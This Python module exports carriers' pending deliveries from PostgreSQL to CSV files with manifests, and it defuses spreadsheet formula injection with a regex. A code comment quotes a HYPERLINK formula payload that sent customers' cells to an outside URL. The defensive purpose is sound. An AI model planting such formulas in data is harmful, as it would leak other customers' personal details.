"""The files a carrier receives: its pending deliveries as CSV, with a manifest beside it.

Each file-taking carrier gets `<folder>/<carrier>/deliveries.csv` (the columns its role would
see, streamed from the hand-off by COPY) and `manifest.json` (rows, bytes, sha256, columns, run
and policy). Both are written through lifecycle.files: owner-only, complete or not at all, and
replacing the previous ones, so a delivered order leaves the file with the same night's export.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import psycopg
from psycopg import sql as pgsql
from sqlalchemy.engine import Engine

from lifecycle.db import describe_db_error
from lifecycle.files import WrittenFile, private_dir, write_private
from lifecycle.logistics.handoff import LogisticsError
from lifecycle.policy import LOGISTICS_KEYS, Policy
from lifecycle.policy.logistics import CARRIER_ROLE_PREFIX

EXPORT_PURPOSE = "logistics"
EXPORT_FILE = "deliveries.csv"
MANIFEST_FILE = "manifest.json"


@dataclass
class ExportReport:
    """Which carrier files were written or removed, with row counts and checksums."""

    folder: Path
    files: dict[str, dict[str, object]] = field(default_factory=dict)
    removed: list[str] = field(default_factory=list)
    # Carriers the policy lists without `csv: true`, and why they get no file: so a reader of the
    # folder or the run does not take a missing carrier for a failed export.
    without_file: dict[str, str] = field(default_factory=dict)

    def metadata(self) -> dict[str, object]:
        """Rows and checksum prefixes per carrier, for the export's materialization."""
        return {
            "folder": str(self.folder),
            "rows_by_carrier": {c: f["rows"] for c, f in self.files.items()},
            "sha256_by_carrier": {c: str(f["sha256"])[:12] for c, f in self.files.items()},
            "removed_exports": self.removed,
            "carriers_without_file": self.without_file,
        }


_COPY = pgsql.SQL(
    "COPY (SELECT {cols} FROM logistics.handoff WHERE carrier = {carrier} "
    "ORDER BY order_id) TO STDOUT WITH (FORMAT csv, HEADER true)"
)
# A text a spreadsheet would run as a formula: it starts with = + - @ (or a tab or carriage
# return) and names something to call (a letter, or DDE's |). Such a cell is written with a
# leading apostrophe, which spreadsheets take as "text". A customer types their own name and
# address (at checkout, in a correction request): `=HYPERLINK("http://…?"&B2, "x")` as a name
# ran in the carrier's spreadsheet and sent other customers' cells out. Phones (+86 138 …) and
# every other value are written as they are.
_FORMULA = r"^[=+\-@\t\r].*([[:alpha:]]|\|)"
_DEFUSED = "CASE WHEN {c} ~ {f} THEN chr(39) || {c} ELSE {c} END AS {c}"


def _cell(column: str) -> pgsql.Composable:
    """The column as the file holds it: a formula-looking text defused with an apostrophe."""
    name = pgsql.Identifier(column)
    return pgsql.SQL(_DEFUSED).format(c=name, f=pgsql.Literal(_FORMULA))


def export_carrier_files(
    engine: Engine, policy: Policy, folder: Path, run_id: str, now: datetime | None = None
) -> ExportReport:
    """Writes each CSV carrier's pending deliveries and a manifest into folder/<carrier>/.

    A new file replaces the previous one (written aside, then renamed), so a delivered order
    leaves the file with the same night's export; folders of carriers no longer receiving files
    are emptied. All files come from one snapshot of the hand-off.
    """
    now = now or datetime.now(UTC)
    columns = list(LOGISTICS_KEYS + policy.logistics.fields)
    report = ExportReport(folder=folder)
    private_dir(folder)
    snapshot = {"isolation_level": "REPEATABLE READ", "postgresql_readonly": True}
    with engine.connect().execution_options(**snapshot) as conn:
        cursor = conn.connection.driver_connection.cursor()
        for carrier in policy.logistics.csv_carriers:
            target = private_dir(folder / carrier)
            query = _COPY.format(
                cols=pgsql.SQL(", ").join(
                    pgsql.Identifier(c) if c == "order_id" else _cell(c) for c in columns
                ),
                carrier=pgsql.Literal(carrier),
            )
            written, rows = _write_copy(cursor, query, target / EXPORT_FILE)
            manifest = {
                "carrier": carrier,
                "file": EXPORT_FILE,
                "rows": rows,
                "bytes": written.bytes,
                "sha256": written.sha256,
                "columns": columns,
                "generated_at": now.isoformat(),
                "run_id": run_id,
                "policy_version": policy.version,
                "policy_hash": policy.short_hash,
                "contents": "orders awaiting delivery by this carrier; "
                "each export replaces the previous one",
            }
            write_private(target / MANIFEST_FILE, (json.dumps(manifest, indent=2) + "\n").encode())
            report.files[carrier] = manifest
        conn.rollback()
    report.removed = _remove_departed(folder, set(policy.logistics.csv_carriers))
    report.without_file = {
        carrier: f"reads its rows as database role {CARRIER_ROLE_PREFIX}{carrier}"
        if carrier in policy.logistics.role_carriers
        else "takes neither a file nor a role (policy: csv and role both off)"
        for carrier in policy.logistics.carriers
        if carrier not in policy.logistics.csv_carriers
    }
    return report


def _write_copy(
    cursor: psycopg.Cursor, query: pgsql.Composed, path: Path
) -> tuple[WrittenFile, int]:
    """Streams the COPY's chunks into `path`; returns what was written and how many rows."""
    try:
        with cursor.copy(query) as copy:
            written = write_private(path, (bytes(chunk) for chunk in copy))
    except psycopg.Error as exc:
        raise LogisticsError(
            f"export to {path} failed: {describe_db_error(exc)}; "
            "the previous file was left in place"
        ) from None
    return written, cursor.rowcount


def _remove_departed(folder: Path, carriers: set[str]) -> list[str]:
    removed = []
    for sub in sorted(p for p in folder.iterdir() if p.is_dir() and p.name not in carriers):
        # Our two files, and any partial one a killed export left beside them (lifecycle.files).
        ours = [sub / EXPORT_FILE, sub / MANIFEST_FILE, *sub.glob("*.partial")]
        if any(p.exists() for p in ours):
            for p in ours:
                p.unlink(missing_ok=True)
            removed.append(sub.name)
        if not any(sub.iterdir()):
            sub.rmdir()
    return removed
